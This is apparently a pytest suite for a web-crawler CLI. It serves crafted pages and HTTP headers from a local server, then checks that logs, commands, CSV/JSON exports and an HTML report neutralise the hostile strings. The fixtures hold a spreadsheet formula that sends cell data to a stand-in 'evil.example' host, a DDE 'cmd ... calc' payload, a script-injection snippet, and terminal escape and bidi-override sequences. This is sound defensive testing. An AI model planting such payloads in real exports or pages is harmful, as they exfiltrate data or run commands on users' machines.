"""A site that says dangerous things, crawled; then every command and every export is looked at, byte by byte."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import socketserver
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from rich.console import Console

from clew.cli.main import execute
from clew.cli.progress import Live
from support import PATIENCE_S, clew, write_project

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"sail")'
EVIL = f"{FORMULA} sail \x1b]0;owned\x07 end \x1b[2J \x9b31m \u202egpj [red]x[/red] \u200b;=1+1"
"""Report 25, report 26, and what else a title may do."""
SAFE = r"\x1b]0;owned\x07 end \x1b[2J \x9b31m \u202egpj [red]x[/red] \u200b"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069\ufeff]|\t")
SAILING = "<p>sailing boats harbour wind sea rope anchor mast keel regatta</p>"
PAGES = {
    "/": (
        f"<title>{html.escape(EVIL)}</title>{SAILING * 3}<a href='/two'>{html.escape(EVIL)}</a>"
        "<a href='/gone'>sailing \x1b[1m</a><a href=\"/q?a=\x1b[2J&amp;=1+1;@x\">sailing</a><a href='/away'>sailing</a>"
    ),
    "/two": f"<title>@SUM(A1)\x1b[5n</title>{SAILING}",
    "/q": f"<title>-1+cmd|' /C calc'!A0 <script>alert(1)</script></title>{SAILING}",
}


class Handler(socketserver.StreamRequestHandler):
    """Speaks HTTP of its own, so that heads may hold what libraries refuse to send."""

    def handle(self) -> None:
        path = self.rfile.readline().split()[1].decode()
        while self.rfile.readline().strip():
            pass
        self.wfile.write(answer(path))


def answer(path: str) -> bytes:
    if path.startswith("/away"):
        lines = (
            b"HTTP/1.1 302 Go\x1b[2J",
            b"Location: gopher://x/\x1b]0;owned\x07",
            b"Content-Length: 0",
            b"Connection: close",
        )
        return b"".join(line + b"\r\n" for line in (*lines, b""))
    body = PAGES.get(path.partition("?")[0])
    status = "200 OK \x1b[2J" if body else "404 =1+1 \x1b]0;owned\x07"
    data = (body or "nothing").encode()
    head = f"HTTP/1.1 {status}\r\nContent-Type: text/html; charset=utf-8\r\nX-Evil: \x1b[31m\u202e\r\n"
    return head.encode() + f"Content-Length: {len(data)}\r\nConnection: close\r\n\r\n".encode() + data


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()


@pytest.fixture(scope="module")
def project(site: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    settings = (
        '[crawl]\ncontact = "a@example.org"\nworkers = 0\n[politeness]\ndelay_s = 0.0\n'
        "[web.live]\nallow_private = true\n"
    )
    folder = write_project(
        tmp_path_factory.mktemp("leaving") / "p",
        [f"{site}/"],
        {"a.html": SAILING, "b.html": SAILING + "<p>crew</p>"},
        {"c.html": "<p>law court judge tax</p>", "d.html": "<p>bank shares stock</p>"},
        settings,
    )
    for name, options in (("text.log", ()), ("json.log", ("--log-json",))):
        done = clew("crawl", folder, "--log", folder / name, "--log-level", "debug", *options)
        no_raw(done.stdout + done.stderr)
    return folder


def no_raw(text: str) -> str:
    found = RAW.search(text)
    assert found is None, f"{found[0]!r} in {text[max(found.start() - 60, 0) : found.end() + 20]!r}"
    return text


Said = Callable[..., str]


@pytest.fixture
def said(capsys: pytest.CaptureFixture[str]) -> Said:
    """Runs a command in this process, which starts quicker, and gives what it prints."""

    def run(*arguments: object, code: int = 0) -> str:
        assert execute([str(one) for one in arguments]) == code
        return no_raw("".join(capsys.readouterr()))

    return run


def test_logs(project: Path) -> None:
    for name in ("text.log", "json.log"):
        no_raw((project / name).read_text(encoding="utf-8"))
    lines = [json.loads(line) for line in (project / "json.log").read_text(encoding="utf-8").splitlines()]
    assert lines


def test_every_command(project: Path, site: str, said: Said) -> None:
    assert SAFE in said("judge", project, f"{site}/")
    assert SAFE in said("label", project, "--uncertain", 20)
    assert r"[red]x[/red]" in said("explain", project, f"{site}/two")
    said("status", project)
    said("topics", project)
    said("topics", project, "--search", "\x1b[2J")
    said("report", project)
    said("report", project, "--paths")
    said("explain", project, f"{site}/away")
    said("explain", project, f"{site}/gone")
    for command in (("judge", project, f"{site}/"), ("label", project, "--uncertain", 20), ("status", project)):
        json.loads(said(*command, "--json").splitlines()[-1])
    found = json.loads(said("judge", project, f"{site}/", "--json").splitlines()[-1])
    assert found[0]["title"].startswith("=HYPERLINK") and "\x1b[2J" in found[0]["title"], "JSON keeps what it was"


@pytest.mark.parametrize(
    "arguments",
    [("judge", "{}", "\x1b[2J\u202e"), ("explain", "{}", "\x1b[2J"), ("label", "{}", "http://a.example/", "\x1b[2J"),
     ("crawl", "{}", "--strategy", "\x1b[2J"), ("crawl", "{}", "--\x1b[2J"), ("status", "/tmp/\x1b[2J\u202e")],
)  # fmt: skip
def test_errors_that_quote(project: Path, said: Said, arguments: tuple[str, ...]) -> None:
    assert "x1b" in said(*(one.format(project) for one in arguments), code=2)


def test_notes_beside_the_live_panel() -> None:
    out = io.StringIO()
    Live(Console(file=out, force_terminal=True, width=200)).note(":smile: [red]x[/red] \x1b[2J")
    assert out.getvalue() == "clew: :smile: [red]x[/red] \\x1b[2J\n"


def exported(project: Path, form: str) -> str:
    command = [sys.executable, "-m", "clew.cli", "export", str(project), "--to", form, "--all"]
    done = subprocess.run(command, capture_output=True, timeout=PATIENCE_S, check=True)
    return no_raw(done.stdout.decode())


def test_csv(project: Path) -> None:
    text = exported(project, "csv")
    for separator in ",;|":
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            assert not [cell for cell in row if re.match(r"[\"']?[=+@]|-(?!\d)", cell) and not cell.startswith("'")], (
                row
            )
    rows = list(csv.DictReader(io.StringIO(text)))
    titles = [row["title"] for row in rows]
    assert any(title.startswith("'=HYPERLINK(") for title in titles)
    assert any(title.startswith("'@SUM") for title in titles)
    assert any(title.startswith("'-1+cmd") for title in titles)
    assert all(float(row["score"]) is not None and int(row["number"]) for row in rows), "numbers stay numbers"


def test_json_lines(project: Path) -> None:
    rows = [json.loads(line) for line in exported(project, "jsonl").splitlines()]
    assert any("\x1b]0;owned\x07" in row["title"] for row in rows), "JSON keeps what it was"


@pytest.mark.parametrize("form", ["bookmarks", "yaml"])
def test_topics(project: Path, form: str) -> None:
    text = exported(project, form)
    assert "<script>" not in text
    assert form == "yaml" or html.escape("<script>alert(1)</script>", quote=False) in text


def test_the_report(project: Path) -> None:
    clew("report", project)
    text = no_raw((project / "report.html").read_text(encoding="utf-8"))
    assert "<script" not in text
    assert "Content-Security-Policy" in text
    assert html.escape(SAFE) in text
    assert not re.search(r'href="(?!https?://|#)', text)
